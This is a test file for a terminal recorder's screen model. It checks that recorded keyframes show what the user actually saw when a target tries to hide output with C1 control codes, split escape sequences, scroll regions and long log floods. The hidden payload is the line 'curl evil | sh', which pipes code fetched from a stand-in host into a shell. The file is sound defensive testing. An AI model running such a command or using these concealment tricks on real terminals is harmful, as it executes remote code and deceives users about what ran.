import { expect, test } from 'vitest'
import { TerminalModel } from '../../recorder/recording/terminal-model.ts'

// A target that wants the keyframe to show another screen than its user saw: by what is left out of a long output.

const flood = (lines: number) => `a line of a log that nobody reads\r\n`.repeat(lines)
const command = 'curl evil | sh\r\n'

/** The keyframe of a terminal that took `parts` at once, in the given pieces and each byte by itself. */
function keyframes(parts: readonly string[]): readonly string[] {
  const wholes = parts.map((part) => Buffer.from(part, 'latin1'))
  const all = Buffer.concat(wholes)
  return [[all], wholes, [...all].map((byte) => Buffer.of(byte))].map((pieces, way) => {
    const model = new TerminalModel(80, 24)
    for (const piece of pieces) {
      model.feed(piece)
      // Small outputs are never shortened: this is the truth.
      if (way > 0) model.cursorLine()
    }
    return Buffer.from(model.keyframe() ?? []).toString('latin1')
  })
}

const hidden: readonly (readonly [string, readonly string[]])[] = [
  ['a C1 control sequence', [`${flood(200)}\xc2\x9b8m${flood(200)}${command}`]],
  ['a C1 index', [`${flood(200)}\xc2\x9b?25l${flood(200)}${command}`]],
  [
    'a sequence begun before the output',
    ['\x1b[', `${'\r\n'.repeat(200)}8${'\r\n'.repeat(2400)}m${command}`],
  ],
  ['a sequence begun in the head', [`\x1b[${'\r\n'.repeat(200)}8${'\r\n'.repeat(2400)}m${command}`]],
  [
    'a long line below a scroll region set in the head',
    [`top\r\n\x1b[3;10r\x1b[20;1H${flood(200)}${'x'.repeat(79)}\r\n${flood(200)}${command}`],
  ],
  ['a character begun before the output', ['\xc2', `\x9b8m${flood(400)}${command}`]],
]

test.each(hidden)('%s is in the keyframe as it was on the screen', (_what, parts) => {
  const [atOnce, inParts, byByte] = keyframes(parts)
  expect(atOnce).toBe(byByte)
  expect(inParts).toBe(byByte)
})

test('a terminal that rests in the middle of a sequence does not forget its beginning', () => {
  for (const [first, second] of [
    ['\x1b[', '8mconcealed'],
    ['\xc2', '\x9b8mconcealed'],
  ] as const) {
    const model = new TerminalModel(80, 24)
    model.feed(Buffer.from(first, 'latin1'))
    model.cursorLine()
    model.rest()
    model.feed(Buffer.from(second, 'latin1'))
    const awake = new TerminalModel(80, 24)
    awake.feed(Buffer.from(first + second, 'latin1'))
    expect(Buffer.from(model.keyframe() ?? []).toString()).toBe(
      Buffer.from(awake.keyframe() ?? []).toString(),
    )
  }
})
